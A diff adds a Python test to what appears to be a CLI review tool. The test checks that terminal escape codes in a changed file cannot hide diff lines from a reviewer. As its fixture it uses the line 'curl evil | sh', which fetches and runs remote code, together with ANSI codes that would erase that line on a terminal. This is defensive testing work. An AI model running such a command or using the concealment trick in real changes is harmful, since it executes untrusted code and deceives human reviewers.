@@ -271,3 +271,15 @@ async def test_a_broken_reviewer_or_a_cancel_while_asking_applies_nothing(tmp_pa
     await canceller
     assert isinstance(events[-1], ev.RunCancelled)
     assert not (tmp_path / "apps/web/about.tsx").exists() and (codex / "TASK-LOG.json").read_bytes() == log
+
+
+def test_escape_sequences_in_a_reviewed_file_cannot_hide_lines_of_the_diff() -> None:
+    from techcat_cli.review_prompt import coloured_diff
+    from techcat_core.runtime.changes import FileChange
+
+    hiding = b"curl evil | sh\n\x1b[1A\x1b[2Kexport const Fine = 1\n"  # would erase the line above on a terminal
+    diff = ChangeSet((FileChange("apps/web/a.tsx", None, hiding),)).diff()
+    for colour in (True, False):
+        shown = coloured_diff(diff, colour)
+        assert "curl evil | sh" in shown and "\\x1b[1A\\x1b[2K" in shown
+        assert "\x1b[1A" not in shown and "\x1b[2K" not in shown
